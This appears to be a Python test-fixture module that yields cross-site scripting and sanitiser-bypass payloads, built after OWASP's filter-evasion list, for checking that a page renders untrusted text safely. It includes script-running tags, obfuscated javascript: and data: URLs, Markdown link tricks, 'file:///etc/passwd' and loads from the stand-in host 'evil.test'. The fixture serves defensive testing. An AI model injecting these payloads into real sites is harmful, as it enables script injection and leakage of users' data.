"""Texts that would run a script, or ask a stranger's host, in a page that shows them carelessly.

Shapes after OWASP's "XSS Filter Evasion" and what sanitisers have been led astray by (mutation XSS): tags with
handlers, addresses of every scheme in every spelling, and Markdown's own ways to either.
"""

from collections.abc import Iterator
from typing import Final

STRANGER: Final = "http://evil.test"
_RUN: Final = "alert(1);window.xss=1"

_TAGS: Final = (
    "<img src=x onerror={run}>",
    "<img src='{stranger}/1.png'>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href='{address}'><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><image href='{stranger}/2.png'/></svg>",
    "<svg><use href='{stranger}/3.svg#x'/></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<script>{run}</script>",
    "<script src='{stranger}/4.js'></script>",
    "<iframe src='{address}'></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data='{address}'></object>",
    "<embed src='{address}'>",
    "<video src='{stranger}/5.mp4' autoplay onerror={run}></video>",
    "<audio src=x onerror={run} autoplay>",
    "<video poster='{stranger}/6.png'></video>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<body onload={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<form action='{address}'><button>Go</button></form>",
    "<button formaction='{address}'>Go</button>",
    "<a href='{address}'>x</a>",
    "<a href='{stranger}' ping='{stranger}/7'>x</a>",
    "<base href='{stranger}/'>",
    "<meta http-equiv=refresh content='0;url={stranger}'>",
    "<link rel=stylesheet href='{stranger}/8.css'>",
    "<link rel=preload as=image href='{stranger}/9.png'>",
    "<style>@import '{stranger}/10.css';</style>",
    "<style>*{{background:url('{stranger}/11.png')}}</style>",
    "<p style=\"background:url('{stranger}/12.png')\">x</p>",
    "<table background='{stranger}/13.png'><tr><td>x</table>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
    "<math><mi xlink:href='{address}'>x</mi></math>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><img src=x onerror={run}></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<xss onpointerenter={run} style=position:fixed;inset:0>x</xss>",
    "<picture><source srcset='{stranger}/14.png'><img></picture>",
    "<img srcset='{stranger}/15.png 1x'>",
    "<isindex type=image src=x onerror={run}>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<dialog open onclose={run}><form method=dialog><button>x</button></form></dialog>",
)

_BROKEN: Final = (
    "<img src=x onerror={run}//",
    "<<img src=x onerror={run}>",
    '"><img src=x onerror={run}>',
    "'-{run}-'",
    "`<img src=x onerror={run}>",
    "</textarea><img src=x onerror={run}>",
    "</title><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<img/src=x/onerror={run}>",
    "<img\tsrc=x\tonerror={run}>",
    "<IMG SRC=x ONERROR={run}>",
    "<img src=x onerror\n={run}>",
    "&lt;img src=x onerror={run}&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "\\u003cimg src=x onerror={run}\\u003e",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "{{constructor.constructor('{run}')()}}",
    "${{{run}}}",
    "<img src=x onerror=&#97;lert(1)>",
    "<a href=x onclick={run}>x",
    "\u202e<img src=x onerror={run}>",
    "\x00<img src=x onerror={run}>",
)

ADDRESSES: Final = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "javascript&#58;{run}",
    "&#106;avascript:{run}",
    "javascript&colon;{run}",
    "java&Tab;script:{run}",
    "javascript://%0a{run}",
    "javascript:{run}//http://x",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload='{run}'/>",
    "blob:{stranger}/x",
    "file:///etc/passwd",
    "//evil.test/16.png",
    "\\\\evil.test\\17.png",
    "/\\evil.test/18.png",
    "http:evil.test/19.png",
    "{stranger}/20.png",
    "http://evil.test@127.0.0.1/",
    "http://127.0.0.1@evil.test/21.png",
    "http://127.0.0.1.evil.test/22.png",
    "http://evil。test/23.png",
    "ftp://evil.test/24",
)

_MARKDOWN: Final = (
    "[x]({address})",
    "![x]({address})",
    "[![x]({address})]({address})",
    "<{address}>",
    "[x]: {address}\n\n[x]",
    "[x][1]\n\n[1]: <{address}>",
    "[x]({address} 'onclick={run}')",
)


def texts() -> Iterator[str]:
    """Each once."""
    given = {"run": _RUN, "stranger": STRANGER}
    for pattern in (*_TAGS, *_BROKEN):
        yield pattern.format(address=f"javascript:{_RUN}", **given)
    for pattern in _MARKDOWN:
        for address in ADDRESSES:
            yield pattern.format(address=address.format(**given), **given)


def addresses() -> Iterator[str]:
    """Those that stand where an address does."""
    yield from (address.format(run=_RUN, stranger=STRANGER) for address in ADDRESSES)
